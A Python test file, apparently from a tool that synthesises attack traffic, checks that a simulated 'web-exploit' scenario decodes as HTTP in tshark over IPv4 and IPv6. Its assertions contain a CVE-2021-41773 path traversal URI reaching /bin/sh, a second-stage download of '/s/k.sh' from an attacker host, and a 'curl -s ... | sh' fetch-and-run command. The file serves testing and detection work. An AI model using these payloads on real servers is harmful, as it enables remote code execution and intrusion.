"""web-exploit: the CVE-2021-41773 requests and the victim's second-stage download."""

from __future__ import annotations

from tests.scenarios.conftest import ATTACKER, ATTACKER6, TARGET, TARGET6, frames_of, run_technique


def test_exploit_requests_decode_as_http(tshark) -> None:
    frames = frames_of(run_technique("web-exploit", depth=3))
    rows = tshark(
        frames, "ip.src", "ip.dst", "http.request.method", "http.request.uri", "http.host",
        "tcp.checksum.status", display_filter="http.request",
    )  # fmt: skip
    assert [(r[0], r[2]) for r in rows] == [
        (ATTACKER, "GET"), (ATTACKER, "POST"), (ATTACKER, "POST"), (TARGET, "GET"),
    ]  # fmt: skip
    assert rows[1][3] == "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"
    assert rows[1][4] == "gate-1.border.fr.example"
    assert (rows[3][1], rows[3][3]) == (ATTACKER, "/s/k.sh"), "the shell fetches the stage"
    assert {r[5] for r in rows} == {"1"}
    bodies = tshark(frames, "http.file_data", display_filter="http.response")
    assert any("uid=33(www-data)" in r[0] for r in bodies)


def test_ipv6_exploit_and_stage_download_decode_as_http_over_ipv6(tshark) -> None:
    emission = run_technique("web-exploit", depth=2, ipv6=True)
    frames = frames_of(emission)
    rows = tshark(
        frames, "ipv6.src", "ipv6.dst", "http.request.method", "http.request.uri", "http.host",
        "tcp.checksum.status", display_filter="http.request",
    )  # fmt: skip
    assert [(r[0], r[1], r[2]) for r in rows] == [
        (ATTACKER6, TARGET6, "GET"), (ATTACKER6, TARGET6, "POST"), (ATTACKER6, TARGET6, "POST"),
        (TARGET6, ATTACKER6, "GET"),
    ]  # fmt: skip
    assert rows[1][3] == "/cgi-bin/.%2e/.%2e/bin/sh"
    assert rows[3][3] == "/s/k.sh" and rows[3][4] == f"[{ATTACKER6}]", "a bracketed IPv6 Host"
    assert {r[5] for r in rows} == {"1"}
    stage = f"http://[{ATTACKER6}]/s/k.sh"
    assert {"type": "url", "value": stage} in emission.truth.observables
    bodies = tshark(frames, "http.file_data", display_filter="http.request.method == POST")
    assert any(f"curl -s {stage} | sh" in r[0] for r in bodies)
